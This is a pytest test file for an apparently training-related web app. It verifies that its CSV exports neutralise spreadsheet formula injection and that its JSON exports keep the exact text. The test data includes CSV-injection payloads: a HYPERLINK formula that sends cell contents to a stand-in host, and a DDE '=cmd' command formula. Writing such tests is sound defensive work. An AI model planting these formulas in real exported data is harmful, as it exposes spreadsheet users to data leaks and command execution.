"""Spreadsheet formulas (CSV injection) are neutralised in every CSV export, on both databases.

A cell a spreadsheet would read as a formula (it starts with = + - @, a tab or a carriage return, OWASP's list, also
after leading spaces or in full-width form) is written with a leading ``'``; typed numbers stay numbers; the JSON
export keeps the exact text. Each export is parsed back with the csv module."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from db.repositories import Work
from grading.agreement import CriterionAgreement
from services import Actor, Services, build_services
from services.calibration import AgreementTable
from services.export import csv_text, spreadsheet_safe
from settings import Settings
from tests.conftest import ROOT, agent_lines
from tests.services.test_certification import campaign

SYSTEM = Actor.system()
HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Click for details")'
#: OWASP's CSV-injection examples, a formula behind leading spaces, and a full-width equals sign.
PAYLOADS = (HYPERLINK, "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "=1+1;",
            "  =1+1", "＝1+1", "\u3000@SUM(1+1)")
#: A formula after a carriage return inside a message: safe only if the csv module quotes the cell.
EMBEDDED = "Noted.\r=2+5"
TEAM = "=cmd|' /C calc'!A0"
FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")


def dangerous(cell: str) -> bool:
    """What a spreadsheet may evaluate: a formula character first, or first after leading whitespace."""
    return cell[:1] in FORMULA_STARTS or cell.lstrip()[:1] in FORMULA_STARTS


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def records(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_safe(text: str) -> list[list[str]]:
    rows = parsed(text)
    assert rows, "the export is empty"
    bad = [cell for row in rows for cell in row if dangerous(cell)]
    assert not bad, f"cells a spreadsheet would evaluate: {bad}"
    return rows


def test_the_one_function_prefixes_formulas_and_passes_numbers_through() -> None:
    for payload in PAYLOADS:
        assert spreadsheet_safe(payload) == "'" + payload
    for benign in ("Hello", "", "3-2", "a=b", "I'm sorry", "'quoted already", "2024-05-01T10:00:00"):
        assert spreadsheet_safe(benign) == benign
    for number in (-3, -0.25, Decimal("-0.2500"), 0, True):
        assert spreadsheet_safe(number) is number
    assert spreadsheet_safe(None) is None
    text = csv_text(["n", "text"], [[-3, "-3"], {"n": -0.5, "text": "=1+1"}])
    assert parsed(text) == [["n", "text"], ["-3", "'-3"], ["-0.5", "'=1+1"]]
    for terminator in ("\n", "\r\n"):  # a line break inside a cell is quoted, never a new row for a formula
        text = csv_text(["n", "text"], [[1, "\r=1"], [2, EMBEDDED], [3, "two\nlines"]], lineterminator=terminator)
        assert parsed(text) == [["n", "text"], ["1", "'\r=1"], ["2", EMBEDDED], ["3", "two\nlines"]]


@pytest.fixture
def world(settings: Settings) -> dict[str, Any]:
    """Trainee eve of team ``TEAM`` with one graded chat in which she wrote every payload (the first through the
    practice service, the rest stored directly: the chat input trims tabs and carriage returns)."""
    services = build_services(settings)
    eve = services.auth.create_user(SYSTEM, username="eve", role="trainee", password="password-5", team=TEAM)
    view = services.practice.start(eve, persona_slug="hostile", seed=1).finish()
    assert view is not None
    services.practice.send(eve, view.id, HYPERLINK).finish()
    services.practice.end(eve, view.id)
    services.grading.report_for(eve, view.id)
    with Work(services.grading.sessions)() as uow:
        for payload in (*PAYLOADS[1:], EMBEDDED):
            uow.sessions.add_message(session_id=view.id, role="agent", content=payload, frustration=5)
        uow.commit()
    return {"services": services, "eve": eve, "chat": view.id, "url": settings.database_url}


def assert_messages_csv(text: str, chat: int) -> None:
    assert_safe(text)
    rows = records(text)
    contents = [r["content"] for r in rows if r["role"] == "agent"]
    assert contents == [*("'" + p for p in PAYLOADS), EMBEDDED]  # the text itself is kept, behind the quote
    assert {r["team"] for r in rows} == {"'" + TEAM}
    assert {int(r["session_id"]) for r in rows} == {chat}
    assert all(r["score"].isdigit() for r in rows)  # a number stays a number


def assert_json_exact(text: str) -> None:
    [session] = json.loads(text)["sessions"]
    assert [m["content"] for m in session["messages"] if m["role"] == "agent"] == [*PAYLOADS, EMBEDDED]


def test_review_exports_messages_and_scores_csv_neutralised_json_exact(world: dict[str, Any]) -> None:
    review, chat = world["services"].review, world["chat"]
    assert_messages_csv(review.export(SYSTEM, [chat], "csv"), chat)
    scores = review.export(SYSTEM, [chat], "scores")
    assert_safe(scores)
    [row] = records(scores)
    assert row["team"] == "'" + TEAM and row["score"].isdigit() and int(row["session_id"]) == chat
    exported = review.export(SYSTEM, [chat], "json")
    assert_json_exact(exported)
    assert json.loads(exported)["sessions"][0]["team"] == TEAM


def db_export(fmt: str, url: str) -> str:
    """``python -m db export`` as a real subprocess, its output read as bytes (text mode would turn a CR into LF)."""
    done = subprocess.run([sys.executable, "-m", "db", "export", "--format", fmt, "--database-url", url], cwd=ROOT,
                          capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout.decode()


def test_db_cli_csv_neutralised_json_exact(world: dict[str, Any]) -> None:
    assert_messages_csv(db_export("csv", world["url"]), world["chat"])
    assert_json_exact(db_export("json", world["url"]))


def test_hr_campaign_report_csv_neutralised(world: dict[str, Any]) -> None:
    services: Services = world["services"]
    campaign_id = campaign(services, trainees=["eve"])
    text = services.certification.report_csv(SYSTEM, campaign_id)
    assert_safe(text)
    [row] = records(text)
    assert (row["trainee"], row["team"], row["attempts"]) == ("eve", "'" + TEAM, "0")
    assert services.certification.report(SYSTEM, campaign_id).rows[0].team == TEAM  # the view keeps the text


def test_calibration_csv_neutralises_criterion_names_and_keeps_negative_kappa(settings: Settings) -> None:
    services = build_services(settings)
    yaml_text = services.rubrics.version_yaml(SYSTEM)
    assert "name: Listening and acknowledging" in yaml_text
    services.rubrics.publish(SYSTEM, yaml_text.replace("name: Listening and acknowledging",
                                                       f"name: {json.dumps(HYPERLINK)}"))
    rows = assert_safe(services.calibration.agreement(SYSTEM).csv())
    assert [row[2] for row in rows if row[1] == "acknowledge"] == ["'" + HYPERLINK]

    confusion = ((0, 1, 0, 0), (1, 0, 0, 0), (0, 0, 0, 0), (0, 0, 0, 0))
    table = AgreementTable(2, (CriterionAgreement("acknowledge", "-2+3", 2, -0.25, 0.5, False, confusion),),
                           30, 0.6, (1, 2))
    [_header, row] = parsed(table.csv())
    assert row[2] == "'-2+3" and row[4] == "-0.2500" and row[5] == "0.5000"  # a negative kappa stays a number


def test_analytics_page_downloads_are_neutralised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The trainee's own Analytics CSV names the customer by its trainer-written persona title."""
    import streamlit as st
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))
    from settings import get_settings
    from ui.context import ChatUI, app_services

    get_settings.cache_clear()
    app_services.clear()
    services = build_services(Settings())
    author = services.auth.create_user(SYSTEM, username="tina", role="trainer", password="password-3")
    ann = services.auth.create_user(SYSTEM, username="ann", role="trainee", password="password-1")
    yaml_text = services.scenarios.version_yaml(author, "hostile")
    title = '"Hostile: the missed-delivery shouter"'
    assert title in yaml_text
    services.scenarios.publish(author, yaml_text.replace(title, json.dumps(HYPERLINK)))
    view = services.practice.start(ann, persona_slug="hostile", seed=1).finish()
    assert view is not None
    for line in agent_lines("hostile")[:3]:
        view = services.practice.send(ann, view.id, line).finish()
        assert view is not None
    if view.active:
        services.practice.end(ann, view.id)
    services.grading.report_for(ann, view.id)

    downloads: dict[str, str] = {}
    original = st.download_button

    def record(label: str, data: Any, *args: Any, **kwargs: Any) -> Any:
        downloads[str(kwargs.get("file_name"))] = data if isinstance(data, str) else data.decode()
        return original(label, data, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", record)
    app = AppTest.from_file(str(ROOT / "pages" / "analytics.py"), default_timeout=60)
    app.session_state["chat_ui"] = ChatUI(user_id=ann.id)
    app.run()
    assert not app.exception, app.exception
    assert "score-trend.csv" in downloads, sorted(downloads)
    for text in downloads.values():
        assert_safe(text)
    [point] = records(downloads["score-trend.csv"])
    assert point["customer"] == "'" + HYPERLINK and point["score"].isdigit()
